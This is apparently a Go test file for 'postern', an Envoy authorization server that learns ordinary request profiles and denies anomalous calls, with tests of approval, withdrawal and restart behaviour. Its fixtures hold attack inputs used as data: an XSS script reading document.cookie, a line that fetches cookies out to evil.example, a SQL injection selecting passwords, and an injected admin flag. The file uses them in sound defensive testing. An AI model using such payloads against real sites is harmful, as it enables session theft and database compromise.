package server

import (
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	accesslogdatav3 "github.com/envoyproxy/go-control-plane/envoy/data/accesslog/v3"
	accesslogv3 "github.com/envoyproxy/go-control-plane/envoy/service/accesslog/v3"
	authv3 "github.com/envoyproxy/go-control-plane/envoy/service/auth/v3"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/protobuf/types/known/structpb"
	"google.golang.org/protobuf/types/known/wrapperspb"

	"postern/server/admin"
)

// traffic is a proxy that checks calls and logs how they ended.
type traffic struct {
	c   *grpc.ClientConn
	log accesslogv3.AccessLogService_StreamAccessLogsClient
}

func (r *running) traffic(t *testing.T) *traffic {
	t.Helper()
	c := r.dial(t)
	log, err := accesslogv3.NewAccessLogServiceClient(c).StreamAccessLogs(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	return &traffic{c, log}
}

// call checks one call and logs its end with a status; it returns the answer and the decision id.
func (f *traffic) call(t *testing.T, q *authv3.CheckRequest, status uint32) (allowed bool, id string) {
	t.Helper()
	answer := check(t, f.c, q)
	id = answer.GetDynamicMetadata().GetFields()["decision_id"].GetStringValue()
	metadata, err := structpb.NewStruct(map[string]any{"decision_id": id})
	if err != nil {
		t.Fatal(err)
	}
	err = f.log.Send(&accesslogv3.StreamAccessLogsMessage{LogEntries: &accesslogv3.StreamAccessLogsMessage_HttpLogs{HttpLogs: &accesslogv3.StreamAccessLogsMessage_HTTPAccessLogEntries{
		LogEntry: []*accesslogdatav3.HTTPAccessLogEntry{{
			CommonProperties: &accesslogdatav3.AccessLogCommon{Metadata: &corev3.Metadata{FilterMetadata: map[string]*structpb.Struct{"envoy.filters.http.ext_authz": metadata}}},
			Response:         &accesslogdatav3.HTTPResponseProperties{ResponseCode: wrapperspb.UInt32(status)},
		}},
	}}})
	if err != nil {
		t.Fatal(err)
	}
	return answer.GetStatus().GetCode() == int32(codes.OK), id
}

// order is an ordinary order; no two are alike.
func order(i int) *authv3.CheckRequest {
	names := []string{"Ada", "Grace", "Edsger", "Barbara", "Donald", "Frances", "Tony", "Leslie"}
	return request("POST", "/orders", fmt.Sprintf(`{"item":"sku-%04d","amount":%d,"name":"%s %s","note":"please ring twice %04d"}`, i*37%10000, i%9+1, names[i%8], names[i/8%8], i))
}

// learned is a server that has learned n orders at a rate that so many can hold.
func learned(t *testing.T, n int, environ ...string) (*running, *traffic) {
	t.Helper()
	r := start(t, append([]string{"POSTERN_FALSE_DENY_RATE=0.02"}, environ...)...)
	f := r.traffic(t)
	for i := range n {
		if ok, _ := f.call(t, order(i), 200); !ok {
			t.Fatalf("order %d was denied in shadow", i)
		}
	}
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		out, _, _ := r.postern(t, "profile", "show", "-json", "shop/orders")
		var c admin.Callee
		if json.Unmarshal([]byte(out), &c) == nil && len(c.Operations) == 1 && c.Operations[0].Calls == int64(n) {
			return r, f
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d orders are not learned: %s", n, out)
		}
	}
}

// odd is an order that is not ordinary, in each of several ways.
func odd(i int) *authv3.CheckRequest {
	bodies := []string{
		`{"item":"sku-0001","amount":1,"name":"Ada Grace","note":"please ring twice 0001","admin":true}`,
		`{"item":"sku-0001","amount":1,"name":"Ada Grace","note":"<script>alert(document.cookie)</script>"}`,
		`{"item":"` + strings.Repeat("x", 4000) + `","amount":1,"name":"Ada Grace","note":"please ring twice 0001"}`,
		`{"item":"sku-0001","amount":1,"name":"Ada Grace","note":"1' or '1'='1' union select password from users -- "}`,
	}
	return request("POST", "/orders", bodies[i%len(bodies)])
}

func TestFromFirstTrafficToAnExplainedDenialAndItsApproval(t *testing.T) {
	t.Parallel()
	r, f := learned(t, 400)
	if out, stderr, code := r.postern(t, "profile", "mode", "-callee", "shop/orders", "enforce"); code != 0 || !strings.Contains(out, "400 calls, of which enforce would have denied 0") {
		t.Fatalf("enforce: %d %s %s", code, out, stderr)
	}
	var ids []string
	for i := range 4 {
		ok, id := f.call(t, odd(i), 200)
		if ok {
			t.Errorf("odd %d was allowed", i)
		}
		ids = append(ids, id)
	}
	for i := range 20 {
		if ok, id := f.call(t, order(1000+i), 200); !ok {
			out, _, _ := r.postern(t, "explain", id)
			t.Errorf("an ordinary order was denied: %s", out)
		}
	}
	e := explained(t, r, ids[1])
	if len(e.Allow) == 0 || !strings.HasPrefix(e.Allow[0], "postern profile approve -callee shop/orders -caller shop/web -operation 'POST /orders' -field 'body|json.note' -class xss -value ") {
		t.Fatalf("%+v", e)
	}
	for _, command := range e.Allow {
		if out, stderr, code := r.postern(t, words(t, command)...); code != 0 {
			t.Fatalf("%s: %s %s", command, out, stderr)
		}
	}
	for i := range 4 { // exactly this one is let through, at once
		if ok, _ := f.call(t, odd(i), 500); ok != (i == 1) {
			t.Errorf("after the approval, odd %d: allowed %v", i, ok)
		}
	}
	another := request("POST", "/orders", `{"item":"sku-0001","amount":1,"name":"Ada Grace","note":"<script>fetch('//evil.example/'+document.cookie)</script>"}`)
	if ok, _ := f.call(t, another, 200); ok {
		t.Error("another script in the same field was allowed too")
	}
	if out, _, _ := r.postern(t, "profile", "log"); !strings.Contains(out, " approve xss at body|json.note with value ") || !strings.Contains(out, "local") {
		t.Errorf("log: %s", out)
	}
	withdrawAll(t, r)
	if ok, _ := f.call(t, odd(1), 200); ok {
		t.Error("allowed, though the approval was withdrawn")
	}
	out, _, _ := r.postern(t, "explain", ids[1])
	for _, want := range []string{"attack/xss", "body|json.note", "shop/web → shop/orders", "to allow exactly this", "body|json\n", "ordinary there: text ≤ "} {
		if !strings.Contains(out, want) {
			t.Errorf("explain lacks %q: %s", want, out)
		}
	}
}

// withdrawAll takes every approval back, each once.
func withdrawAll(t *testing.T, r *running) {
	t.Helper()
	out, _, _ := r.postern(t, "profile", "log", "-json")
	for line := range strings.Lines(out) {
		var d admin.Decided
		if err := json.Unmarshal([]byte(line), &d); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(d.Act), `"do":"approve"`) {
			continue
		}
		if out, stderr, code := r.postern(t, "profile", "withdraw", "-decision", fmt.Sprint(d.Seq)); code != 0 {
			t.Fatalf("withdraw %d: %s %s", d.Seq, out, stderr)
		}
		if _, stderr, code := r.postern(t, "profile", "withdraw", "-decision", fmt.Sprint(d.Seq)); code != 1 || !strings.Contains(stderr, "is no approval, pin,") {
			t.Errorf("withdraw %d again: %d %s", d.Seq, code, stderr)
		}
	}
}

// words splits a command as a shell does, without its first word. Quotes hold no quotes here.
func words(t *testing.T, command string) (list []string) {
	t.Helper()
	for i, part := range strings.Split(strings.TrimPrefix(command, "postern "), "'") {
		if i%2 == 1 {
			list = append(list, part)
		} else {
			list = append(list, strings.Fields(part)...)
		}
	}
	return list
}

func explained(t *testing.T, r *running, id string) (e admin.Explanation) {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		out, stderr, code := r.postern(t, "explain", "-json", id)
		if code == 0 {
			if err := json.Unmarshal([]byte(out), &e); err != nil {
				t.Fatal(err)
			}
			return e
		}
		if time.Now().After(deadline) {
			t.Fatal(stderr)
		}
	}
}

func TestGateStopsWhatIsTooTightAndPassesWhatIsGood(t *testing.T) {
	t.Parallel()
	tight, f := learned(t, 400)
	for i := range 60 { // a part of the ordinary calls is as the profile has never seen
		f.call(t, odd(i), 200)
	}
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		if listed, _, _ := tight.postern(t, "denials", "-verdict", "would-deny", "-limit", "100"); strings.Count(listed, "\n") >= 60 {
			break
		}
	}
	enforce := []string{"profile", "mode", "-callee", "shop/orders", "enforce"}
	if out, stderr, code := tight.postern(t, enforce...); code != 1 || !strings.Contains(stderr, "60 of 460 calls, 13 %, more than the asked 2 %") || !strings.Contains(out, "shop/orders POST /orders: 60 of 460") {
		t.Errorf("too tight: %d %s %s", code, out, stderr)
	}
	if ok, _ := f.call(t, odd(1), 500); !ok {
		t.Error("refused, and denied all the same")
	}
	good, g := learned(t, 400)
	if out, stderr, code := good.postern(t, enforce...); code != 0 || !strings.Contains(out, "would have denied 0") {
		t.Errorf("good: %d %s %s", code, out, stderr)
	}
	if ok, _ := g.call(t, odd(1), 500); ok {
		t.Error("enforced, and not denied")
	}
}

func TestGateSaysWhatIsTooLittleKnownAndWhatForceDoes(t *testing.T) {
	t.Parallel()
	r, f := learned(t, 12)
	if out, stderr, code := r.postern(t, "profile", "mode", "-callee", "shop/ordres", "enforce"); code != 1 || !strings.Contains(stderr, "nothing was learned of it") || !strings.Contains(stderr, "postern status") || !strings.Contains(stderr, "-force") {
		t.Errorf("a name that nobody has: %d %s %s", code, out, stderr)
	}
	out, stderr, code := r.postern(t, "profile", "mode", "-callee", "shop/orders", "enforce")
	if code != 1 || !strings.Contains(stderr, "only 0 % of the 12 learned calls") || !strings.Contains(stderr, "attacks alone") || !strings.Contains(out, "shop/orders POST /orders: immature, 12 calls learned, ") {
		t.Errorf("immature: %d %s %s", code, out, stderr)
	}
	if out, stderr, code := r.postern(t, "profile", "mode", "-callee", "shop/orders", "-force", "enforce"); code != 0 {
		t.Errorf("forced: %d %s %s", code, out, stderr)
	}
	for i := range 4 { // as it said: attacks alone
		if ok, _ := f.call(t, odd(i), 500); ok != (i == 0 || i == 2) {
			t.Errorf("forced, odd %d: allowed %v", i, ok)
		}
	}
}

func TestARestartKeepsWhatWasLearnedAndDecided(t *testing.T) {
	t.Parallel()
	r, _ := learned(t, 400)
	if _, stderr, code := r.postern(t, "profile", "mode", "-callee", "shop/orders", "enforce"); code != 0 {
		t.Fatal(stderr)
	}
	if err := r.stop(); err != nil {
		t.Fatal(err)
	}
	again := startIn(t, r.folder, "POSTERN_FALSE_DENY_RATE=0.02")
	f := again.traffic(t)
	for i := range 4 {
		if ok, _ := f.call(t, odd(i), 200); ok {
			t.Errorf("odd %d was allowed after a restart", i)
		}
	}
	if ok, id := f.call(t, order(2000), 200); !ok {
		out, _, _ := again.postern(t, "explain", id)
		t.Errorf("an ordinary order was denied after a restart: %s", out)
	}
}

func TestAStoreThatCannotBeOpenedMeansShadowAndAWarning(t *testing.T) {
	t.Parallel()
	folder := t.TempDir()
	file := folder + "/data"
	if err := os.WriteFile(file, []byte("no folder"), 0o600); err != nil {
		t.Fatal(err)
	}
	r := start(t, "POSTERN_DATA="+file, "POSTERN_MODE=enforce")
	f := r.traffic(t)
	if ok, _ := f.call(t, odd(3), 200); !ok {
		t.Error("denied, though nothing is known of what operators decided")
	}
	if out, _, code := r.postern(t, "health"); code != 0 || !strings.Contains(out, "the store was not opened and nothing is written to it") {
		t.Errorf("health: %d %s", code, out)
	}
	if _, stderr, code := r.postern(t, "profile", "approve", "-callee", "shop/orders"); code == 0 || !strings.Contains(stderr, "nothing was decided, since the store is not open") {
		t.Errorf("an act that no store holds is answered %d %s", code, stderr)
	}
	if out, _, _ := r.postern(t, "status"); !strings.Contains(out, "store       DOWN") {
		t.Errorf("status: %s", out)
	}
	if text, err := os.ReadFile(file); err != nil || string(text) != "no folder" {
		t.Errorf("it was touched: %q %v", text, err)
	}
	if _, text := r.get("m", "/metrics"); !strings.Contains(text, "postern_store_up 0") {
		t.Error("postern_store_up is not 0")
	}
}
